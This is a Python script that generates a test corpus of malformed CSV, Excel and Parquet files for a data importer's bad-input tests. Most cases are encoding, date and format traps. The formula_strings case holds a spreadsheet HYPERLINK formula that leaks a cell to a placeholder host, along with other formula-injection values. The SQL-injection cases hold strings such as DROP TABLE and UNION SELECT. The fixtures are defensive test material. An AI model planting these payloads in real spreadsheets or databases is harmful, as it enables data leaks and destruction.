"""Writes the bad-input corpus: dirty CSV, Excel and Parquet extracts, each a known trap.

``python tests/data/bad/make_corpus.py`` rewrites the small files of this folder; the output is
the same byte for byte on every run (fixed seeds, fixed times inside the workbooks), and
``tests/test_bad_input.py`` checks that the committed files still match. The two large files
(a 1 MB field, 10,000 columns, a row over 2 MB) are only written into a temporary folder by
the tests. ``expected.toml`` beside this file says what importing each file must give.

The password-protected workbook is crafted: Excel writes an encrypted workbook as an OLE
compound file holding the streams ``EncryptionInfo`` and ``EncryptedPackage``; this script
writes such a container (header, FAT, directory and both streams, the package filled with
seeded random bytes), which is exactly what the importer has to recognise. No real password
was used, so no tool can decrypt it.
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import random
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
TX = "Invoice Number,Line No,Customer ID,Invoice Date,Quantity,Unit Price,Amount"
TX_DE = "Rechnungsnummer;Position;Kundennummer;Rechnungsdatum;Menge;Einzelpreis;Nettobetrag"


def _text(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


def _random_bytes(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


# ---- CSV ------------------------------------------------------------------------------------

CSV_FILES: dict[str, Callable[[], bytes]] = {
    "empty.csv": _text(""),
    "blank_lines.csv": _text("\n\n   \n\n"),
    "header_only.csv": _text("Customer ID,Customer Name\n"),
    "header_only_semicolon.csv": _text("Kundennummer;Kundenname;Land\n"),
    "wrong_delimiter.csv": _text("Customer ID;Customer Name\nA5;Epsilon\nA6;Zeta\n"),
    "missing_required_column.csv": _text(
        "Invoice Number,Line No,Invoice Date,Quantity,Unit Price,Amount\nR1,1,2024-01-02,1,2,2\n"
    ),
    "duplicate_column_names.csv": _text("Customer ID,Customer Name,Customer Name\nA5,x,y\n"),
    "duplicate_column_names_case.csv": _text("Customer ID,Country,country\nA5,DE,AT\n"),
    "duplicate_keys_accounts.csv": _text(
        "Customer ID,Customer Name\nA5,Epsilon\nA6,Zeta\nA5,Epsilon again\n"
    ),
    "duplicate_keys_invoice_lines.csv": _text(
        f"{TX}\nR1,1,A1,2024-01-02,1,2,2\nR1,2,A1,2024-01-02,1,2,2\nR1,1,A1,2024-01-03,1,2,2\n"
    ),
    "empty_required.csv": _text(f"{TX}\nR1,1,A1,2024-01-02,1,2,2\nR1,2,,2024-01-02,1,2,2\n"),
    "text_in_amount.csv": _text(f"{TX}\nR1,1,A1,2024-01-02,1,2,2\nR1,2,A1,2024-01-02,1,2,two\n"),
    "units_in_quantity.csv": _text(f"{TX}\nR1,1,A1,2024-01-02,12 pcs,2,24\n"),
    "mixed_decimal_formats.csv": _text(
        f'{TX}\nR1,1,A1,2024-01-02,1,2,"1.234,56"\nR1,2,A1,2024-01-02,1,2,"12,5"\n'
        'R1,3,A1,2024-01-02,1,2,"1,234.56"\n'
    ),
    "decimal_comma_in_point_file.csv": _text(
        f"{TX}\nR1,1,A1,2024-01-02,1,2.5,2.5\nR1,2,A1,2024-01-02,1,0.75,0.75\n"
        'R1,3,A1,2024-01-02,1,2,"12,5"\n'
    ),
    "mixed_decimal_formats_de.csv": _text(
        f"{TX_DE}\nR1;1;A1;02.01.2024;1;2;1.234,56\nR1;2;A1;02.01.2024;1;2;12.5\n"
    ),
    "impossible_date.csv": _text(
        f"{TX_DE}\nR1;1;A1;02.01.2024;1;2;2\nR1;2;A1;31.02.2024;1;2;2\n", "cp1252"
    ),
    "impossible_month.csv": _text(f"{TX}\nR1,1,A1,2024-13-01,1,2,2\n"),
    "dates_decades_off.csv": _text(f"{TX}\nR1,1,A1,1024-05-03,1,2,2\nR1,2,A1,2024-05-03,1,2,2\n"),
    "dates_far_ahead.csv": _text(f"{TX}\nR1,1,A1,2024-05-03,1,2,2\nR1,2,A1,2204-05-03,1,2,2\n"),
    "two_digit_year.csv": _text(
        f"{TX_DE}\nR1;1;A1;15.03.2024;1;2;2\nR1;2;A1;16.03.24;1;2;2\nR1;3;A1;17.03.2024;1;2;2\n"
    ),
    "excel_serial_dates.csv": _text(f"{TX}\nR1,1,A1,45292,1,2,2\n"),
    "broken_encoding.csv": lambda: (
        "Customer ID,Customer Name\nA5,Müller\n".encode() + b"A6,Gr\x81n \x8d AG\n"
    ),
    "bom_utf8.csv": _text("\ufeffCustomer ID,Customer Name\nA5,Müller\n"),
    "bom_utf16.csv": _text("\ufeffCustomer ID,Customer Name\nA5,Müller\n", "utf-16-le"),
    "cp1252_umlauts.csv": _text("Kundennummer;Kundenname\nA5;Müller & Söhne\n", "cp1252"),
    "binary_random.csv": lambda: _random_bytes(1, 4096),
    "binary_png.csv": lambda: b"\x89PNG\r\n\x1a\n" + _random_bytes(2, 512),
    "gzip_named.csv": lambda: gzip.compress(b"Customer ID,Customer Name\nA5,x\n", mtime=0),
    "pdf_named.csv": _text("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
    "nul_bytes.csv": lambda: b"Customer ID,Customer Name\nA5,Eps\x00ilon\n",
    "unclosed_quote.csv": _text(
        'Customer ID,Customer Name\nA5,Epsilon\nA6,"Zeta\nA7,Eta\nA8,Theta\n'
    ),
    "too_many_fields.csv": _text(
        "Customer ID,Customer Name\nA5,Epsilon\nA6,Zeta\nA7,Eta, Inc.,Boston\n"
    ),
    "formula_strings.csv": _text(
        "Customer ID,Customer Name,Industry\n"
        'A5,"=HYPERLINK(""http://example.invalid/?leak=""&A1,""Click"")",=1+1\n'
        "A6,+49 30 1234,@SUM(A1:A9)\n"
        "A7,-2+3,\t=cmd\n"
    ),
    "sql_in_names.csv": _text(
        "Customer ID,Customer Name,Region\n"
        'A5,"Robert\'); DROP TABLE accounts;--",North\n'
        'A6,"x""; drop table accounts; --",\'; delete from transactions; --\n'
        'A7,1 OR 1=1,"\' union select * from settings --"\n'
    ),
    "currency_mix.csv": _text(
        f"{TX},Currency\nR1,1,A1,2024-01-02,1,2,2,EUR\nR1,2,A1,2024-01-02,1,2,2,USD\n"
    ),
    "currency_other_than_stored.csv": _text(
        f"{TX},Currency\nR1,1,A1,2024-01-02,1,2,2,USD\nR1,2,A1,2024-01-02,1,2,2,USD\n"
    ),
    "unknown_accounts.csv": _text(f"{TX}\nR1,1,A1,2024-01-02,1,2,2\nR1,2,K999,2024-01-02,1,2,2\n"),
    "negative_quantity.csv": _text(f"{TX}\nR1,1,A1,2024-01-02,-3,2,-6\n"),
    "wrong_table.csv": _text("Customer ID,Customer Name,Country\nA5,Epsilon,DE\n"),
    "no_table_fits.csv": _text("Foo,Bar,Baz\n1,2,3\n"),
    "fraction_employees.csv": _text("Customer ID,Employees\nA5,12.5\n"),
    "huge_whole_number.csv": _text("Customer ID,Employees\nA5,99999999999\n"),
    "nan_infinity.csv": _text(f"{TX}\nR1,1,A1,2024-01-02,1,2,NaN\nR1,2,A1,2024-01-02,1,2,inf\n"),
    "title_lines_above_header.csv": _text(
        f"Sales report 2024\nprinted 2025-01-03\n\n{TX}\nR1,1,A1,2024-01-02,1,2,2\n"
        "R1,2,A1,2024-01-02,1,2,n/a\n"
    ),
    "credit_note_flag.csv": _text(f"{TX},Credit Note\nR1,1,A1,2024-01-02,1,2,2,maybe\n"),
    "quarantine_mixed.csv": _text(
        f"{TX}\nR7,1,A1,2024-01-02,1,2,2\nR7,2,A1,2024-01-02,1,2,oops\nR7,3,A1,2024-01-02,1,3,3\n"
    ),
}

# ---- mappings used by some cases ------------------------------------------------------------

MAPPING_FILES: dict[str, Callable[[], bytes]] = {
    "comma_mapping.toml": _text(
        'name = "forced comma"\n[reader]\ndelimiter = ","\n'
        '[tables.accounts.fields]\naccount_id = "Customer ID"\nname = "Customer Name"\n'
    ),
    "flag_mapping.toml": _text(
        'name = "raw credit-note flag"\n[tables.transactions.fields]\n'
        'invoice_id = "Invoice Number"\nline_no = "Line No"\naccount_id = "Customer ID"\n'
        'invoice_date = "Invoice Date"\nquantity = "Quantity"\nunit_price = "Unit Price"\n'
        'net_amount = "Amount"\nis_credit_note = "Credit Note"\n'
    ),
}

# ---- Excel ----------------------------------------------------------------------------------

FIXED_TIME = dt.datetime(2024, 1, 1)


def _workbook(rows: list[list[object]], *, text_cells: bool = False, sheet: str = "data") -> bytes:
    """An .xlsx with one sheet; the same bytes on every run.

    ``text_cells`` stores values that start with "=" as text, not as formulas.
    """
    import openpyxl

    workbook = openpyxl.Workbook()
    worksheet = workbook.active
    worksheet.title = sheet
    for row in rows:
        worksheet.append(row)
    if text_cells:
        for row in worksheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    workbook.properties.created = FIXED_TIME
    workbook.properties.modified = FIXED_TIME
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _fixed_zip(buffer.getvalue())


def _fixed_zip(data: bytes) -> bytes:
    """The zip ``data`` rewritten with fixed entry times and document dates."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:(created|modified)[^>]*>)[^<]*",
                    rb"\g<1>2024-01-01T00:00:00Z",
                    content,
                )
            entry = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(entry, content)
    return out.getvalue()


def _encrypted_workbook() -> bytes:
    """An OLE compound file as Excel writes a password-protected workbook (see above)."""
    sector = 512
    free, end, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    info = (
        struct.pack("<HHI", 4, 4, 0x40)
        + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"/>'
        b"</encryption>"
    ).ljust(4096, b"\x00")
    package = struct.pack("<Q", 8192) + _random_bytes(3, 4096 - 8)
    # sectors: 0 FAT, 1 directory, 2-9 EncryptionInfo, 10-17 EncryptedPackage
    fat = [fat_sector, end]
    for start, count in ((2, 8), (10, 8)):
        fat += [start + i + 1 for i in range(count - 1)] + [end]
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int):
        encoded = (name + "\x00").encode("utf-16-le") if name else b""
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBBIII", len(encoded), kind, 1, left, right, child)
            + b"\x00" * 16
            + struct.pack("<IQQIQ", 0, 0, 0, start, size)
        )

    directory = (
        entry("Root Entry", 5, free, free, 2, end, 0)
        + entry("EncryptionInfo", 2, free, free, free, 2, len(info))
        + entry("EncryptedPackage", 2, 1, free, free, 10, len(package))
        + entry("", 0, free, free, free, 0, 0)
    )
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    assert len(header) == sector
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + info + package


TX_ROWS = [["Invoice Number", "Line No", "Customer ID", "Invoice Date", "Amount"]]

XLSX_FILES: dict[str, Callable[[], bytes]] = {
    "truncated.xlsx": lambda: _workbook([["Customer ID", "Customer Name"], ["A5", "x"]])[:300],
    "password_protected.xlsx": _encrypted_workbook,
    "csv_named.xlsx": _text("Customer ID,Customer Name\nA5,Epsilon\n"),
    "header_only.xlsx": lambda: _workbook([["Customer ID", "Customer Name"]]),
    "empty_sheet.xlsx": lambda: _workbook([]),
    "duplicate_columns.xlsx": lambda: _workbook(
        [["Customer ID", "Name", "Name"], ["A5", "x", "y"]]
    ),
    "text_in_amount.xlsx": lambda: _workbook(
        [*TX_ROWS, ["R1", 1, "A1", FIXED_TIME, 10.5], ["R1", 2, "A1", FIXED_TIME, "ten"]]
    ),
    "impossible_date.xlsx": lambda: _workbook(
        [
            ["Rechnungsnummer", "Position", "Kundennummer", "Rechnungsdatum", "Nettobetrag"],
            ["R1", 1, "A1", "31.02.2024", 10],
        ]
    ),
    "formula_text.xlsx": lambda: _workbook(
        [["Customer ID", "Customer Name"], ["A5", '=HYPERLINK("http://example.invalid","x")']],
        text_cells=True,
    ),
    "unknown_sheet.xlsx": lambda: _workbook([["Customer ID"], ["A5"]], sheet="Kunden"),
}

# ---- Parquet --------------------------------------------------------------------------------


def _parquet(columns: dict[str, object] | None = None, table: object = None) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = table if table is not None else pa.table(columns)
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


def _parquet_files() -> dict[str, Callable[[], bytes]]:
    import pyarrow as pa

    day = dt.date(2024, 1, 2)
    lines = {"Invoice Number": ["R1", "R1"], "Line No": [1, 2], "Customer ID": ["A1", "A1"]}
    return {
        "no_rows.parquet": lambda: _parquet(
            {
                "Customer ID": pa.array([], pa.string()),
                "Customer Name": pa.array([], pa.string()),
            }
        ),
        "truncated.parquet": lambda: _parquet({"Customer ID": ["A5"] * 50})[:-40],
        "missing_required.parquet": lambda: _parquet({"Customer Name": ["Epsilon"]}),
        "duplicate_columns.parquet": lambda: _parquet(
            table=pa.Table.from_arrays(
                [pa.array(["A5"]), pa.array(["x"]), pa.array(["y"])],
                names=["Customer ID", "Customer Name", "Customer Name"],
            )
        ),
        "duplicate_keys.parquet": lambda: _parquet(
            {"Customer ID": ["A5", "A5"], "Customer Name": ["Epsilon", "Epsilon 2"]}
        ),
        "text_amounts.parquet": lambda: _parquet(
            {**lines, "Invoice Date": [day, day], "Amount": ["12.50", "abc"]}
        ),
        "nan_amount.parquet": lambda: _parquet(
            {**lines, "Invoice Date": [day, day], "Amount": [1.0, float("nan")]}
        ),
        "ancient_timestamps.parquet": lambda: _parquet(
            {**lines, "Invoice Date": [day, dt.date(1850, 1, 2)], "Amount": [1.0, 2.0]}
        ),
        "unknown_accounts.parquet": lambda: _parquet(
            {
                **lines,
                "Customer ID": ["A1", "K404"],
                "Invoice Date": [day, day],
                "Amount": [1.0, 2.0],
            }
        ),
        "sql_names.parquet": lambda: _parquet(
            {"Customer ID": ["A5"], "Customer Name": ['x"; drop table accounts; --']}
        ),
    }


# ---- the large ones: written by the tests into a temporary folder ---------------------------


def _one_mb_field() -> bytes:
    return ("Customer ID,Customer Name\nA5," + "x" * (1024 * 1024) + "\nA6,Zeta\n").encode()


def _row_over_two_mb() -> bytes:
    return ('Customer ID,Customer Name\nA5,"' + "y" * (3 * 1024 * 1024) + '"\n').encode()


def _ten_thousand_columns() -> bytes:
    header = ",".join(f"Field {i}" for i in range(10_000))
    row = ",".join(str(i) for i in range(10_000))
    return f"{header}\n{row}\n".encode()


LARGE_FILES: dict[str, Callable[[], bytes]] = {
    "one_mb_field.csv": _one_mb_field,
    "row_over_two_mb.csv": _row_over_two_mb,
    "ten_thousand_columns.csv": _ten_thousand_columns,
}


def small_files() -> dict[str, Callable[[], bytes]]:
    """Every committed file of the corpus: name -> a function giving its bytes."""
    return {**CSV_FILES, **MAPPING_FILES, **XLSX_FILES, **_parquet_files()}


def write_corpus(folder: Path, *, large: bool = False) -> list[Path]:
    """Write the small files (and with ``large`` the large ones) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {**small_files(), **(LARGE_FILES if large else {})}
    written = []
    for name, make in files.items():
        path = folder / name
        path.write_bytes(make())
        written.append(path)
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    for path in write_corpus(target):
        print(path.relative_to(target))
